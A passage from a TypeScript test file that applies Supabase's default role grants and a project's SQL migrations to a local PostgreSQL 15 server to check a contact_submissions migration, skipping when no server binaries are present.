  alter default privileges in schema public grant all on sequences to postgres, anon, authenticated, service_role;
`;

if (postgresAvailable()) {
  let server: Awaited<ReturnType<typeof startPostgres>>;
  afterAll(() => server?.stop());
  checks("PostgreSQL 15", async () => {
    server = await startPostgres();
    const client = new pg.Client({ connectionString: server.connectionString });
    await client.connect();
    // Supabase's roles and default grants, as a new project has them: every table and function created in public is
    // granted in full to anon, authenticated and service_role unless a migration revokes it.
    await client.query(SUPABASE_DEFAULT_GRANTS);
    // The same files, applied the way `supabase db push` applies them: in name order.
    for (const file of readdirSync("supabase/migrations")
      .filter((f) => f.endsWith(".sql"))
      .sort()) {
      await client.query(readFileSync(`supabase/migrations/${file}`, "utf8"));
    }
    return {
      exec: async (sql) => void (await client.query(sql)),
      query: (sql, params) => client.query(sql, params as unknown[]),
      close: () => client.end(),
    };
  });
} else {
  describe.skip("the contact_submissions migration on PostgreSQL 15", () => {
    it(`skipped: no PostgreSQL 15 binaries under ${process.env.PG_BIN_DIR || "/usr/lib/postgresql/15/bin"}`, () => {});
  });
  console.warn("Skipping the PostgreSQL 15 migration checks: no server binaries found");
}
